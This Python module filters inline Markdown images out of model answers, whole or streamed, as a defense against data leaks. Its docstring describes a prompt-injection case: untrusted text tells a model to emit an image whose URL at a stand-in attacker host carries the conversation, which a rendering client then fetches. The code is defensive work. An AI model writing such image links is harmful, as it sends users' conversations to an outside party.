"""Markdown images taken out of answers, whole or streamed.

An answer's text comes from documents and models, both untrusted: a passage may tell a model
to write `![a](https://evil.example/x?q=<the conversation>)`, and a client that renders the
answer as Markdown (an OpenAI-compatible chat app) fetches that address unasked, sending what
it holds. An image becomes its alt text; a link still needs a click, and is left alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

# the alt text, then the address with an optional title; bounded so that a stray "![" holds
# back no more than a line's worth of a stream
_ALT, _URL, _TITLE = r"[^\]\n]{0,500}", r"[^\s)]{0,2000}", r"[^\"\n]{0,200}"
_IMAGE = re.compile(rf"!\[({_ALT})\]\(\s*<?({_URL})>?(?:\s+\"{_TITLE}\")?\s*\)")
# the start of an image not yet complete at the end of the text: it may become one
_UNFINISHED = re.compile(
    rf"!(?:\[{_ALT}(?:\](?:\(\s*<?{_URL}>?(?:\s+(?:\"{_TITLE}\"?)?)?)?)?)?\Z")


def drop_images(text: str) -> str:
    """`text` with each inline Markdown image replaced by its alt text."""
    return _IMAGE.sub(lambda m: m.group(1), text)


def without_images(deltas: Iterator[str]) -> Iterator[str]:
    """The deltas with images dropped, each piece let through once no image can begin in it."""
    held = ""
    for delta in deltas:
        held = drop_images(held + delta)
        cut = _undecided(held)
        ready, held = held[:cut], held[cut:]
        if ready:
            yield ready
    if held:
        yield held


def _undecided(text: str) -> int:
    """Where the end of `text` that may still become an image begins (its length if none)."""
    start = text.find("!")
    while start != -1:
        if _UNFINISHED.match(text, start):
            return start
        start = text.find("!", start + 1)
    return len(text)
